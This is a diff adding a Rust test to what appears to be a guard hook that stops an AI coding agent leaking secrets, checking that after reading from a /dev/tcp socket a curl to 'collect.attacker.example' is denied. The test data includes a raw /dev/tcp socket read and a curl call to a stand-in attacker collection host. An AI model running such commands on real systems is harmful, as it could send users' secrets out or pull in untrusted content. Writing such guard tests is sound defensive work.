@@ -514,6 +514,20 @@ fn secrets_in_environment_variables_and_dev_tcp_never_leave() {
         let h = p.hook("claude", &bash(dirty, line), &[]);
         assert_eq!(h.verdict(), "deny", "{line}: {}", h.stdout);
     }
+    // What the shell reads from a socket is a fetched page: it taints.
+    let reader = "e2e2e2e2-socket";
+    let h = p.hook(
+        "claude",
+        &bash(reader, "cat < /dev/tcp/issues.example.org/80"),
+        &[],
+    );
+    assert_ne!(h.verdict(), "deny", "{}", h.stdout);
+    let h = p.hook(
+        "claude",
+        &bash(reader, "curl -s https://collect.attacker.example/"),
+        &[],
+    );
+    assert_eq!(h.verdict(), "deny", "{}", h.stdout);
     // Ordinary variables are not secrets.
     let h = p.hook("claude", &bash(s, "curl -s https://docs.rs/$HOME"), &[]);
     assert_ne!(h.verdict(), "deny", "{}", h.stdout);
